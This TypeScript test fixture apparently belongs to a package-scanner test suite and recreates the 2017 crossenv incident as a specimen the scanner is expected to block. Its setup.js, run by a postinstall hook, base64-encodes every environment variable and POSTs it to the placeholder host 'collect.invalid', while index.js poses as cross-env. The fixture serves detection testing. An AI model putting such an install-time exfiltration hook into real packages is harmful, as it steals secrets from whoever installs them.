import type { Specimen } from '../specimen.ts';

export const specimen: Specimen = {
  name: 'incident-environment-stealer',
  from: 'crossenv, 2017: environment sent at install',
  files: {
    'package.json': { name: 'incident', version: '1.0.0', scripts: { postinstall: 'node setup.js' } },
    'setup.js': `const https = require('https');
const body = Buffer.from(JSON.stringify(process.env)).toString('base64');
const request = https.request({ hostname: 'collect.invalid', path: '/a', method: 'POST' });
request.on('error', () => {});
request.write(body);
request.end();
`,
    'index.js': `module.exports = require('cross-env');
`,
  },
  expect: 'block',
  says: ['sends-environment'],
};
